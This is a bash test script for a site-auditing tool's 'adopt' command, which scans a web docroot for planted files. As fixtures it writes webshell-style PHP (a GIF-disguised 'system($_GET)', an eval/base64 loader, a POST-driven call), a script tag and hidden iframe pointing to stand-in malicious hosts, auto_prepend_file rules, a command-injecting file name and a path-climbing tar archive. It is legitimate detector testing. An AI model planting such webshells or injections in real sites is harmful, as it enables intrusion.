#!/bin/bash
# adopt: what looks planted in a grown site is found, and the first release is proposed.
. "$(dirname "$0")/lib.sh"

site=$tmp/production
make_site "$site"
mkdir -p "$site/uploads/2009" "$site/cache" "$site/.well-known/acme-challenge"
cp "$site/img/dot.gif" "$site/uploads/2009/a.gif"
: >"$site/uploads/index.html"

status_is 0 'an honest site has no planted findings' us adopt "$site" --json
json_is 'none' .planted 0
json_is 'uploads are proposed as a mutable area' '.mutable | map(.path + "=" + .target) | join(" ")' \
        'uploads=../mutable/uploads'
json_is 'cache and challenges as ignored' '.ignored | map(.path) | sort | join(" ")' '.well-known/acme-challenge cache'

# The line that is proposed does what it says.
make_keys "$tmp/keys"
us adopt "$site"
line=$(output | grep 'understudy publish' | sed "s|understudy publish|publish|; s|REPO|$repo|; s|RELEASE.key|$key|")
eval "us $line --site example --yes"
is 'the proposed line publishes' "$status" 0

planted()
{
        local found
        found=$(json ".findings | map(select(.planted and .path == \"$1\" and .kind == \"$2\")) | length")
        is "$1: $2" "$found" 1
}

echo '<!doctype html><script src="http://malware.invalid/x.js"></script>' >"$site/index.html"
echo '<?php echo 1;' >"$site/uploads/2009/x.php"
cp "$site/img/dot.gif" "$site/img/logo.php.gif"
printf 'GIF89a<?php system($_GET["c"]);' >"$site/img/new.gif"
echo '<?php @eval(base64_decode("ZWNobyAxOw=="));' >"$site/lib/cache.php"
echo '<?php $_POST["a"]($_POST["b"]);' >"$site/lib/x.php"
echo 'php_value auto_prepend_file /tmp/x' >"$site/css/.htaccess"
echo 'auto_prepend_file=/tmp/x' >"$site/.user.ini"
echo '<p>x<iframe src="http://frame.invalid/" width=0 height=0></iframe>' >"$site/docs/help.html"
cp /bin/true "$site/docs/tool" && chmod 4755 "$site/docs/tool"
ln -s / "$site/docs/top"
(cd "$site" && sha256sum lib/page.php css/site.css >"$tmp/sums" && echo '// more' >>lib/page.php)
before=$(find "$site" -printf '%p %m %s %T@ %C@\n' | sha256sum)

status_is 1 'a tampered one has' us adopt "$site" --json --checksums "$tmp/sums"
planted index.html shadow
planted index.html host
planted uploads/2009/x.php upload
planted img/logo.php.gif extension
planted img/new.gif disguise
planted lib/cache.php obfuscated
planted lib/x.php obfuscated
planted css/.htaccess control
planted .user.ini control
planted docs/help.html frame
planted docs/tool mode
planted docs/top link
planted lib/page.php checksum
json_is 'the intact file is not named' '.findings | map(select(.path == "css/site.css")) | length' 0
json_is 'hosts are listed with their files' '.hosts | map(.host + ":" + .paths[0]) | join(" ")' \
        'frame.invalid:docs/help.html malware.invalid:index.html'
json_is 'no link to the top is proposed' '.publish | map(select(. == "docs/top")) | length' 0
is 'nothing in the site was changed' "$(find "$site" -printf '%p %m %s %T@ %C@\n' | sha256sum)" "$before"
status_is 1 'the same as text' us adopt "$site"
like 'the planted page is marked' "$(output)" '!! index\.html'

# A FIFO does not stop the walk, and no link is followed.
mkfifo "$site/fifo"
ln -s "$tmp" "$site/docs/outside"
status_is 1 'a FIFO and a link out do not stop it' timeout 20 "$UNDERSTUDY" adopt "$site" --json
json_is 'the link is a note' '.findings | map(select(.path == "docs/outside" and .kind == "link" and (.planted | not))) | length' 1
json_is 'and was not followed' '.findings | map(select(.path | startswith("docs/outside/"))) | length' 0
rm "$site/fifo"

# One program that the web server wrote, among many that it did not.
if [[ $EUID -eq 0 ]] && id www-data >/dev/null 2>&1; then
        mkdir "$site/app"
        for ((i = 0; i < 30; i++)); do echo "<?php return $i;" >"$site/app/$i.php"; done
        chown www-data "$site/app/7.php"
        us adopt "$site" --json --web-user www-data
        planted app/7.php owner
        json_is 'no other' '.findings | map(select(.kind == "owner")) | length' 1
else
        skip 'needs root and a user www-data'
fi

# Over ssh: a program of that name that runs its last argument here.
mkdir "$tmp/bin"
cat >"$tmp/bin/ssh" <<'END'
#!/bin/sh
printf '%s\n' "$@" >"$SSH_LOG"
exec sh -c "$3"
END
chmod +x "$tmp/bin/ssh"
export SSH_LOG=$tmp/ssh.log PATH=$tmp/bin:$PATH
cd "$tmp" || exit 1
odd="$tmp/it's \$(touch oops) a site"
mv "$site" "$odd"
status_is 2 'a remote docroot needs a place' us adopt "host:$odd"
status_is 1 'a remote docroot is copied and looked through' us adopt "host:$odd" --into "$tmp/copy" --json
json_is 'with the same findings' '.findings | map(select(.planted and .kind == "shadow")) | length' 1
is 'ssh was called with the host' "$(sed -n 2p "$tmp/ssh.log")" host
not_ok 'nothing in the name was run' test -e "$tmp/oops"
is 'setuid is gone from the copy' "$(stat -c %a "$tmp/copy/docs/tool")" 755
ok 'links came as links' test -L "$tmp/copy/docs/top"
json_is 'and it is said' .setuid_removed 1
status_is 2 'a folder with something in it is not overwritten' us adopt "host:$odd" --into "$tmp/copy"
is 'nothing else is left beside it' "$(find "$tmp" -maxdepth 1 -name 'copy*' | wc -l)" 1

status_is 3 'a docroot that is not there over there' us adopt "host:$tmp/nowhere" --into "$tmp/copy2"
not_ok 'leaves no copy' test -e "$tmp/copy2"
cat >"$tmp/bin/ssh" <<'END'
#!/bin/sh
cd "$SSH_EVIL" && tar -cPf - ../escaped /etc/hostname ./fine
END
mkdir "$tmp/evil" && echo fine >"$tmp/evil/fine" && echo no >"$tmp/escaped"
export SSH_EVIL=$tmp/evil
mkdir "$tmp/place"
us adopt "host:/x" --into "$tmp/place/copy"
is 'an archive that climbs stays inside' "$(find "$tmp/place" -name escaped | grep -vc "^$tmp/place/copy/")" 0
status_is 3 'no such docroot here' us adopt "$tmp/nowhere"
status_is 2 'no docroot named' us adopt
status_is 2 'a list that is none' us adopt "$tmp/copy" --checksums "$tmp/ssh.log"
done_testing
